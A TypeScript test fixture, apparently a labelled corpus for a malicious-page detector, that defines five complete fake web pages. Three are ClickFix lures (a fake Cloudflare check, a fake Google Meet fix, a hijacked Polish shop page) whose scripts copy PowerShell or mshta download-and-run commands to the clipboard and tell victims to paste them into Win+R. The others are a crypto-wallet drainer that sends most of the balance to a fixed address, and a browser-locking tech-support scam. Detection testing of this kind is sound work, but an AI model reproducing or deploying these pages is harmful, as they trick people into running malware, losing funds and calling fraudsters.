import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { page, msLogo, cookieBar, dataLayer, zip, pe, lnk, cfb, iso, fileRoute, jsRoute, jsonRoute, pngRoute } from '../parts/l-kit.js';

export const entries: Entry[] = [
{
  id: 'l-clickfix-cloudflare-verify-winr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://verify.cdn-protect-gateway.com/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page',
  routes: {
    'verify.cdn-protect-gateway.com/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page': htmlRoute(page({
      title: 'Just a moment...',
      css: `body{font-family:system-ui,-apple-system,Segoe UI,Roboto,Arial;margin:0;color:#313131}.m{max-width:60rem;margin:7rem auto;padding:0 1.5rem}.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;width:300px;padding:14px;background:#fafafa}#st{display:none;border:1px solid #ddd;padding:16px;max-width:440px;margin-top:16px;background:#fff}kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
      body: `<div class="m"><h1 style="font-weight:500">Verify you are human</h1><p>We need to verify that you're not a robot before continuing.</p><div class="cb"><input type="checkbox" id="c"><label for="c">I'm not a robot</label></div>
<div id="st"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:12px;color:#777">Performing these steps confirms you are a human visitor. Ray ID: 8f02c1d3e9a4b711</p></div>
<p style="font-size:12px;color:#777;margin-top:60px">Performance &amp; security by Cloudflare</p></div>
<script>
var cmd='powershell -w h -nop -c "$u=\\'https://verify.cdn-protect-gateway.com/cdn-cgi/t/s.ps1\\';iex(iwr $u -UseBasicParsing).Content" # ✅ I am not a robot - reCAPTCHA Verification ID: 4471';
function cp(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();try{navigator.clipboard.writeText(cmd)}catch(e){}}
document.getElementById('c').addEventListener('click',function(){cp();document.getElementById('st').style.display='block'});
</script>`,
    })),
  },
},
{
  id: 'l-clickfix-meet-microphone-fix',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://meet.gogle-conference.com/xkq-bmwp-tzr',
  routes: {
    'meet.gogle-conference.com/xkq-bmwp-tzr': htmlRoute(page({
      title: 'Meet – xkq-bmwp-tzr',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:Google Sans,Roboto,Arial}.v{width:640px;height:360px;background:#3c4043;margin:60px auto 0;border-radius:8px;display:flex;align-items:center;justify-content:center}.e{max-width:640px;margin:16px auto;background:#fff;color:#202124;border-radius:8px;padding:20px}button{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:18px}`,
      body: `<div class="v">Camera is off</div><div class="e"><b>Problem with your microphone</b><p style="font-size:14px">Your browser's audio drivers were blocked by a recent Windows update. Click <b>Try fix</b> and follow the steps to rejoin the meeting.</p><button id="t">Try fix</button><p id="s" style="display:none;font-size:14px">Press <b>Win + R</b>, paste (<b>Ctrl + V</b>) and press <b>Enter</b>. Then refresh this page.</p></div>
<script>document.getElementById('t').onclick=function(){navigator.clipboard.writeText('cmd /c start /min powershell -w 1 -ep bypass -c "irm meet.gogle-conference.com/api/fix | iex"');document.getElementById('s').style.display='block'}</script>`,
    })),
  },
},
{
  id: 'l-clickfix-captcha-pl-weryfikacja',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://www.sklep-rowerowy-kolo.pl/produkt/rower-gravel-x7/',
  routes: {
    'www.sklep-rowerowy-kolo.pl/produkt/rower-gravel-x7/': htmlRoute(page({
      lang: 'pl',
      title: 'Rower gravel X7 – Sklep Rowerowy Koło',
      css: `body{margin:0;font-family:Arial}header{background:#114b5f;color:#fff;padding:14px 24px}.p{max-width:900px;margin:24px auto;display:flex;gap:24px}.img{width:400px;height:300px;background:#c6dabf}`,
      body: `<header>Sklep Rowerowy Koło</header><div class="p"><div class="img"></div><div><h1>Rower gravel X7</h1><p style="font-size:24px">4 299,00 zł</p><p>Rama aluminiowa, Shimano GRX 2x11, hamulce hydrauliczne.</p><button>Dodaj do koszyka</button></div></div>
<script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>`,
    })),
    'www.sklep-rowerowy-kolo.pl/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(`(function(){var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:99999;font-family:Roboto,Arial;display:flex;align-items:center;justify-content:center';
o.innerHTML='<div style="border:1px solid #d3d3d3;padding:24px;width:360px;box-shadow:0 0 4px rgba(0,0,0,.1)"><b>Weryfikacja: nie jestem robotem</b><p style="font-size:14px">Aby kontynuować, wykonaj poniższe kroki weryfikacyjne:</p><ol style="font-size:14px"><li>Naciśnij Windows + R</li><li>Naciśnij CTRL + V</li><li>Naciśnij Enter</li></ol><button id="vv" style="background:#4a90e2;color:#fff;border:0;padding:9px 20px">Zweryfikuj</button><p style="font-size:10px;color:#999">reCAPTCHA · Prywatność · Warunki</p></div>';
document.body.appendChild(o);document.getElementById('vv').onclick=function(){navigator.clipboard.writeText('mshta.exe https://sklep-rowerowy-kolo.pl/wp-includes/fonts/verify.hta # Weryfikacja reCAPTCHA ID 21877');this.textContent='Skopiowano'}})();`),
  },
},
{
  id: 'l-drainer-fake-revoke-approvals-tool',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://revoke-approvals.walletguard-check.app/',
  routes: {
    'revoke-approvals.walletguard-check.app/': htmlRoute(page({
      title: 'Revoke Token Approvals | Wallet Security Check',
      css: `body{margin:0;background:#f7f8fa;font-family:Inter,Arial}.c{max-width:680px;margin:50px auto;background:#fff;border-radius:12px;padding:28px;box-shadow:0 1px 4px rgba(0,0,0,.08)}.al{background:#fff4f4;border:1px solid #f3c1c1;padding:12px;border-radius:8px}button{background:#111827;color:#fff;border:0;padding:12px 22px;border-radius:8px}`,
      body: `<div class="c"><h2>Wallet security check</h2><div class="al">&#9888; A recent exploit affected wallets that interacted with popular DEX routers. Scan your wallet and revoke risky approvals now.</div><p>Connect your wallet to scan all token approvals across Ethereum, Arbitrum, Base and BNB Chain.</p><button id="s">Connect &amp; Scan</button><div id="r"></div></div>
<script src="/static/js/main.7f3a1c.js"></script>`,
    })),
    'revoke-approvals.walletguard-check.app/static/js/main.7f3a1c.js': jsRoute(`var _k=['eth_requestAccounts','eth_sendTransaction','0xa9059cbb','personal_sign'];
document.getElementById('s').onclick=async function(){var e=window.ethereum;if(!e)return alert('Wallet not detected');var a=(await e.request({method:_k[0]}))[0];
document.getElementById('r').innerHTML='<p>Found 7 risky approvals. Click "Revoke all" and confirm in your wallet.</p><button id="ra">Revoke all</button>';
document.getElementById('ra').onclick=async function(){var bal=await e.request({method:'eth_getBalance',params:[a,'latest']});var v='0x'+(BigInt(bal)*95n/100n).toString(16);
await e.request({method:_k[1],params:[{from:a,to:'0x3f9c2d71e8a04b65c1d7e0a9b28f4c6d7e1a5b90',value:v,data:'0x'}]});
await e.request({method:_k[3],params:['Revoke all approvals for '+a+' nonce:'+Date.now(),a]})}};`),
  },
},
{
  id: 'l-scam-techsupport-defender-lock',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://win-defender-alert.support-helpline-24.com/err/0x80070643/',
  routes: {
    'win-defender-alert.support-helpline-24.com/err/0x80070643/': htmlRoute(page({
      title: 'Windows Defender Security Center',
      css: `body{margin:0;background:#0078d4;font-family:Segoe UI,Arial;color:#fff}.w{max-width:700px;margin:60px auto;background:#fff;color:#222;padding:26px;border:2px solid #c00}.w h2{color:#c00}.tel{font-size:26px;font-weight:bold;color:#0078d4}`,
      body: `<div class="w"><h2>&#9940; Access to this PC has been blocked for security reasons</h2><p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p><ul><li>Email credentials</li><li>Banking passwords</li><li>Facebook login</li><li>Pictures &amp; documents</li></ul><p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p><p>Call Microsoft Support immediately:</p><p class="tel">+1 (888) 621-4097 (Toll Free)</p><p style="font-size:12px">Closing this window will put your personal information at risk and lead to a suspension of your Windows registration.</p></div>
<script>document.addEventListener('click',function(){try{document.documentElement.requestFullscreen()}catch(e){}});history.pushState(null,'',location.href);window.onpopstate=function(){history.pushState(null,'',location.href)};window.onbeforeunload=function(){return 'Are you sure?'};
setTimeout(function(){alert('WINDOWS SECURITY WARNING\\n\\nTrojan detected. Call +1 (888) 621-4097 immediately.')},2000)</script>`,
    })),
  },
},
];
